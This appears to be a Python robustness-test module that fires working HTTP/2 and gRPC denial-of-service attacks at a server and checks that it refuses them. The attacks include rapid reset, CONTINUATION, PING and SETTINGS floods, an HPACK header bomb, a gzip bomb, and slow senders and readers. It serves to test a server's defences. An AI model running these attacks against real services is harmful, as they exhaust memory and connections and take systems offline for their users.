"""Attacks on a server, each on its own connections: what a hostile, broken or greedy client does on purpose.

`python -m fuzz.attack NAME HOST:PORT SECONDS` repeats one for a while, so that another process can look at a good
client meanwhile.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import random
import struct
import time
import zlib
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack
from dataclasses import dataclass
from functools import cache

from fuzz.http2 import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    block,
    call,
    connected,
    frame,
    message,
)

STATUS = b"/openmanager.api.status.v1.StatusService/GetStatus"
STATUS_FILE = b"openmanager.api.status.v1.StatusService"
REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# Frames are sent in pieces of about so many, so that what was answered meanwhile is heard.
PIECE = 500
# No more than a server must take in one frame.
FRAME_BYTES = 16_000
CANCEL = 8
# How long an attacker waits for what must come soon.
SOON_SECONDS = 10.0
MIB = 1 << 20


async def silent_connections(address: str, count: int) -> str:
    """Connect and never say a word."""
    host, _, port = address.rpartition(":")
    async with AsyncExitStack() as stack:
        for _ in range(count):
            reader, writer = await asyncio.open_connection(host, int(port))
            stack.callback(writer.close)
        return "held" if await reader.read(1) else "closed"  # a server speaks first


async def idle_connections(address: str, count: int) -> str:
    """Connect properly, and never call."""
    async with AsyncExitStack() as stack:
        held = [await stack.enter_async_context(connected(address)) for _ in range(count)]
        for each in held:
            await each.answers(SOON_SECONDS)
        return "closed" if any(each.over for each in held) else "held"


async def open_streams(address: str, count: int) -> str:
    """Open streams on one connection, and leave them open."""
    async with connected(address) as connection:
        headers = block(REFLECTION)
        for first in range(0, count, PIECE):
            some = range(first, min(first + PIECE, count))
            await connection.send(b"".join(frame(HEADERS, END_HEADERS, 2 * each + 1, headers) for each in some))
        await connection.answers(SOON_SECONDS)
        if connection.over:
            return _end(connection)
        return "refused" if connection.resets else "held"


async def rapid_reset(address: str, count: int) -> str:
    """Begin calls and take each back at once."""
    return await _flood(address, count, _resets)


async def ping_flood(address: str, count: int) -> str:
    """Send PING after PING."""
    ping = frame(PING, 0, 0, bytes(8))
    return await _flood(address, count, lambda first, last: ping * (last - first))


async def settings_flood(address: str, count: int) -> str:
    """Send SETTINGS after SETTINGS."""
    empty = frame(SETTINGS, 0, 0)
    return await _flood(address, count, lambda first, last: empty * (last - first))


async def empty_data_flood(address: str, count: int) -> str:
    """Send empty DATA frames on a call that never ends."""
    async with connected(address) as connection:
        await connection.send(call(1, STATUS, b"", end=False))
        empty = frame(0, 0, 1)
        for _ in range(0, count, PIECE):
            if connection.over or not await connection.send(empty * PIECE):
                break
        return _end(connection)


async def continuation_flood(address: str, count: int) -> str:
    """Send headers that never end."""
    async with connected(address) as connection:
        await connection.send(frame(HEADERS, 0, 1, block(STATUS)))
        more = frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x03abc" * 100)
        for _ in range(0, count, 50):
            if connection.over or not await connection.send(more * 50):
                break
        await connection.answers(SOON_SECONDS)
        return _end(connection)


async def header_bomb(address: str, count: int) -> str:
    """Send one large header, and name it again and again from the table: a byte each."""
    async with connected(address) as connection:
        # The newest entry of the dynamic table is number 62.
        bomb = block(STATUS, [(b"x-bomb", b"b" * 3900)]) + b"\xbe" * 12_000
        last = 1
        for at in range(count):
            last = 2 * at + 1
            if connection.over or not await connection.send(frame(HEADERS, END_HEADERS | END_STREAM, last, bomb)):
                break
        return await connection.status(last, SOON_SECONDS)


async def large_metadata(address: str, count: int) -> str:
    """Call with more metadata than is taken, in calls of their own."""
    async with connected(address) as connection:
        last = 1
        for at in range(count):
            last = 2 * at + 1
            extra = [(b"x-%d" % each, b"v" * 60) for each in range(250)]
            if connection.over or not await connection.send(_headers(last, STATUS, extra) + _body(last, message(b""))):
                break
        return await connection.status(last, SOON_SECONDS)


async def gzip_bomb(address: str, count: int) -> str:
    """Send a message that unpacks to `count` MiB."""
    async with connected(address) as connection:
        await connection.greeted(SOON_SECONDS)  # from then on a stream takes so much at once
        headers = _headers(1, STATUS, [(b"grpc-encoding", b"gzip")])
        await connection.send(headers + _body(1, message(_bomb(count), compressed=True)))
        return await connection.status(1, SOON_SECONDS)


async def large_messages(address: str, count: int) -> str:
    """Announce messages far above the limit, and begin to send them."""
    async with connected(address) as connection:
        last = 1
        for at in range(count):
            last = 2 * at + 1
            begun = struct.pack(">BI", 0, (1 << 32) - 1) + bytes(16_000)
            if connection.over or not await connection.send(call(last, STATUS, begun, end=False)):
                break
        return await connection.status(last, SOON_SECONDS)


async def slow_senders(address: str, count: int) -> str:
    """Begin messages, go on byte by byte, and never end them."""
    async with connected(address) as connection:
        for at in range(count):
            await connection.send(call(2 * at + 1, STATUS, message(bytes(1000))[:6], end=False))
        begin = time.monotonic()
        while not connection.over and 1 not in connection.statuses and time.monotonic() < begin + SOON_SECONDS:
            await asyncio.sleep(0.2)
            await connection.send(b"".join(frame(0, 0, 2 * at + 1, b"\0") for at in range(count)))
        return await connection.status(1, 0)


async def slow_readers(address: str, count: int) -> str:
    """Ask again and again, and never read the answers."""
    async with connected(address, reads=False, values={INITIAL_WINDOW_SIZE: 0}) as connection:
        question = message(b"\x22" + bytes([len(STATUS_FILE)]) + STATUS_FILE)
        for at in range(count):
            await connection.send(call(2 * at + 1, REFLECTION, question * 50, end=False))
        return await connection.status(1, SOON_SECONDS)


async def empty_messages(address: str, count: int) -> str:
    """Send empty messages on one stream, without end."""
    async with connected(address) as connection:
        await connection.send(call(1, REFLECTION, b"", end=False))
        piece = frame(0, 0, 1, message(b"") * PIECE)
        for _ in range(0, count, PIECE):
            if connection.over or 1 in connection.statuses or not await connection.send(piece):
                break
            await connection.answers(SOON_SECONDS)  # no more at once than a window takes
        return await connection.status(1, SOON_SECONDS)


async def http1(address: str, count: int) -> str:
    """Speak HTTP/1.1."""
    return await _noise(address, count, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")


async def tls_hello(address: str, count: int) -> str:
    """Speak TLS."""
    return await _noise(address, count, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(600))


async def random_bytes(address: str, count: int) -> str:
    """Speak nothing at all."""
    return await _noise(address, count, random.Random(count).randbytes(1 << 14))


@dataclass(frozen=True)
class Attack:
    """An attack: how much of it is made at once, what may become of it, and by how much memory may grow.

    `closed` is a connection hung up on; `GOAWAY` with the error code it was told; a number is the gRPC status.
    """

    make: Callable[[str, int], Awaitable[str]]
    count: int
    ends: frozenset[str]
    most_bytes: int


def _attack(make: Callable[[str, int], Awaitable[str]], count: int, *ends: str, most_bytes: int = 32 * MIB) -> Attack:
    return Attack(make, count, frozenset(ends), most_bytes)


HUNG_UP = ("closed", "GOAWAY 1", "GOAWAY 11")
ATTACKS: dict[str, Attack] = {
    "silent connections": _attack(silent_connections, 1000, "held"),
    "idle connections": _attack(idle_connections, 1000, "held"),
    # A stream takes 7 KiB, and a service takes 10,000 of another.
    "open streams": _attack(open_streams, 11_000, "refused", *HUNG_UP, most_bytes=128 * MIB),
    "rapid reset": _attack(rapid_reset, 100_000, "stood", *HUNG_UP),
    "ping flood": _attack(ping_flood, 100_000, *HUNG_UP),
    "settings flood": _attack(settings_flood, 100_000, "stood", *HUNG_UP),
    "empty data flood": _attack(empty_data_flood, 100_000, "stood", *HUNG_UP),
    # gRPC takes 16 MiB of headers, and ten times the memory, from who has not acknowledged that it may send less.
    "continuation flood": _attack(continuation_flood, 10_000, *HUNG_UP, most_bytes=256 * MIB),
    # The first of them take 21 to 35 MiB, once; a single one that was taken apart would add 45.
    "header bomb": _attack(header_bomb, 100, "8", *HUNG_UP, most_bytes=40 * MIB),
    "large metadata": _attack(large_metadata, 100, "8", *HUNG_UP),
    "gzip bomb": _attack(gzip_bomb, 4096, "8", *HUNG_UP, most_bytes=16 * MIB),
    # What core refuses, our side may see as cancelled first.
    "large messages": _attack(large_messages, 90, "1", "8", *HUNG_UP),
    # 1: the core cancels calls for a moment after an attack with very many streams.
    "slow senders": _attack(slow_senders, 90, "1", "4", *HUNG_UP),
    "slow readers": _attack(slow_readers, 90, "1", "8", *HUNG_UP),
    "empty messages": _attack(empty_messages, 1_000_000, "8", *HUNG_UP),
    "HTTP/1.1": _attack(http1, 100, "closed"),
    "TLS hello": _attack(tls_hello, 100, "closed"),
    "random bytes": _attack(random_bytes, 100, "closed"),
}


async def takes_streams(address: str) -> bool:
    """Say whether a stream is taken: gRPC's core cancels new ones while those of an attack before wait for their end."""
    async with connected(address) as connection:
        await connection.send(call(1, REFLECTION, message(b"")))
        return await connection.status(1, SOON_SECONDS) == "0"


async def repeated(name: str, address: str, seconds: float) -> str:
    """Repeat an attack for some seconds, at least once to its end; return what became of it the last time."""
    attack = ATTACKS[name]
    end = time.monotonic() + seconds
    found = await attack.make(address, attack.count)
    while time.monotonic() < end:
        found = await attack.make(address, attack.count)
    return found


async def _flood(address: str, count: int, frames: Callable[[int, int], bytes]) -> str:
    async with connected(address) as connection:
        for first in range(0, count, PIECE):
            last = min(first + PIECE, count)
            if connection.over or not await connection.send(frames(first, last)):
                break
        await connection.answers(SOON_SECONDS)
        return _end(connection)


def _resets(first: int, last: int) -> bytes:
    headers, cancelled = block(STATUS), struct.pack(">I", CANCEL)
    return b"".join(
        frame(HEADERS, END_HEADERS, 2 * each + 1, headers) + frame(RST_STREAM, 0, 2 * each + 1, cancelled)
        for each in range(first, last)
    )


async def _noise(address: str, count: int, noise: bytes) -> str:
    host, _, port = address.rpartition(":")
    ends = set()
    for _ in range(count):
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(noise)
        try:
            async with asyncio.timeout(SOON_SECONDS):
                while await reader.read(1 << 16):
                    pass
            ends.add("closed")
        except TimeoutError:
            ends.add("open")
        except OSError:
            ends.add("closed")
        finally:
            writer.close()
    return ", ".join(sorted(ends))


def _headers(stream: int, path: bytes, extra: list[tuple[bytes, bytes]]) -> bytes:
    """Return the headers of a call, in as many frames as they need."""
    whole = block(path, extra)
    parts = [whole[at : at + FRAME_BYTES] for at in range(0, len(whole), FRAME_BYTES)]
    kinds = [HEADERS, *[CONTINUATION] * (len(parts) - 1)]
    flags = [*[0] * (len(parts) - 1), END_HEADERS]
    return b"".join(frame(kind, flag, stream, part) for kind, flag, part in zip(kinds, flags, parts, strict=True))


def _body(stream: int, body: bytes) -> bytes:
    """Return the data of a call, in as many frames as it needs."""
    parts = [body[at : at + FRAME_BYTES] for at in range(0, len(body), FRAME_BYTES)]
    return b"".join(frame(0, END_STREAM if part is parts[-1] else 0, stream, part) for part in parts)


@cache
def _bomb(count: int) -> bytes:
    """Return what unpacks to `count` MiB of zeros, a thousandth of that."""
    packer, zeros = zlib.compressobj(1, wbits=31), bytes(MIB)
    parts = [packer.compress(zeros) for _ in range(count)]
    return b"".join([*parts, packer.flush()])


def _end(connection: Connection) -> str:
    if connection.goaway is not None:
        return f"GOAWAY {connection.goaway}"
    return "closed" if connection.closed else "stood"


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("seconds", type=float, help="0: once")
    asked = parser.parse_args()
    os.nice(19)  # the attacker stands for another machine: it shall not take this one's processors
    print(asyncio.run(repeated(asked.name, asked.address, asked.seconds)))
